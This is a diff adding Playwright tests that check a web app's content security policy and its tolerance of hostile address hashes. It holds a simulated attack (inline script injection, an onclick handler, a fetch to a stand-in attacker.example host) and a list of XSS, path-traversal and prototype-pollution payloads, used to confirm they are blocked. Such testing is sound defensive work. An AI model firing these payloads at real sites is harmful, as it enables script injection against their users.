@@ -1,0 +1,81 @@
+import { expect, type Page, test } from "@playwright/test";
+import { lessonNames } from "../src/settings/settings.ts";
+import { filesPort } from "./ports.ts";
+import { open } from "./watching.ts";
+
+/** What the content security policy refuses from now on, in the page. */
+async function refusals(page: Page): Promise<() => Promise<string[]>> {
+  await page.addInitScript(() => {
+    const log: string[] = [];
+    Object.assign(globalThis, { refused: log });
+    addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
+      log.push(`${violatedDirective} ${blockedURI}`),
+    );
+  });
+  return () => page.evaluate(() => (globalThis as unknown as { refused: string[] }).refused);
+}
+
+/** A figure, a table of backends, or a sentence about a story or a model that is not there. */
+const shown = "dnc-figure svg, dnc-break svg, tbody tr, .lede .error";
+
+/** Tries what an attacker would. */
+const attack = (page: Page): Promise<unknown> =>
+  page.evaluate(async () => {
+    const script = document.createElement("script");
+    script.textContent = "document.title = 'attacked'";
+    document.body.append(script);
+    await fetch("https://attacker.example/").catch(() => undefined);
+    document.body.insertAdjacentHTML("beforeend", '<p style="color: red" onclick="document.title = 1">x</p>');
+    document.querySelector("p")?.click();
+  });
+
+for (const lesson of lessonNames) {
+  test(`in the lesson ${lesson} the policy has nothing to refuse`, async ({ page }) => {
+    const refused = await refusals(page);
+    const { errors, foreign } = await open(page, `lesson=${lesson}`, shown);
+    expect([...(await refused()), ...errors, ...foreign]).toEqual([]);
+  });
+}
+
+for (const [what, address] of [
+  ["page", "/"],
+  ["page without headers", `http://127.0.0.1:${filesPort}/index.html`],
+  ["frame", `http://127.0.0.1:${filesPort}/embed/index.html`],
+]) {
+  test(`the policy of the ${what} refuses scripts, styles and hosts that are not its own`, async ({ page }) => {
+    const refused = await refusals(page);
+    await page.goto(address!);
+    await expect(page.locator("dnc-figure svg")).toBeVisible();
+    expect(await refused()).toEqual([]);
+    await attack(page);
+    await expect
+      .poll(async () => [...new Set((await refused()).map((line) => line.split(" ")[0]))].sort())
+      .toEqual([...["connect-src", "script-src-attr", "script-src-elem", "style-src-attr"]]);
+    expect(await page.title()).toMatch(/^dncjs/);
+  });
+}
+
+const markup = "<img src=x onerror=alert(1)>";
+const hostile = [
+  `lesson=../../x&t=-99&move=1e9&row=99999999&shown=${markup}&snapshot=99999&seed=-1&theme=url(x)&__proto__=1`,
+  `lesson=recall&choice=${"9".repeat(15)}&shown=${"f".repeat(400)}&formula=constructor`,
+  `backend=${encodeURIComponent("../../worker")}&task=${markup}&no-links=javascript:alert(1)`,
+  "%E0%A4%A&%&=&&===&t=%00&lesson=%2e%2e%2f&theme=dark%22onload=alert(1)",
+  `lesson=story&shown=${"f".repeat(400)}`,
+  `lesson=allocate&shown=${"0".repeat(399)}&t=1&${"x=1&".repeat(50_000)}`,
+];
+for (const [k, hash] of hostile.entries()) {
+  test(`hostile address ${k + 1} is only a strange one, for the page and for the frame`, async ({ page }) => {
+    const dialogs: string[] = [];
+    page.on("dialog", (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    const { errors, foreign } = await open(page, hash, shown);
+    await expect(page.locator("img, script:not([src])")).toHaveCount(0);
+    expect([...errors, ...foreign, ...dialogs]).toEqual([]);
+    await page.goto(`http://127.0.0.1:${filesPort}/embed/index.html?origin=${encodeURIComponent(markup)}#${hash}`);
+    await expect(page.locator(shown).first()).toBeVisible();
+    expect([...errors, ...dialogs]).toEqual([]);
+  });
+}
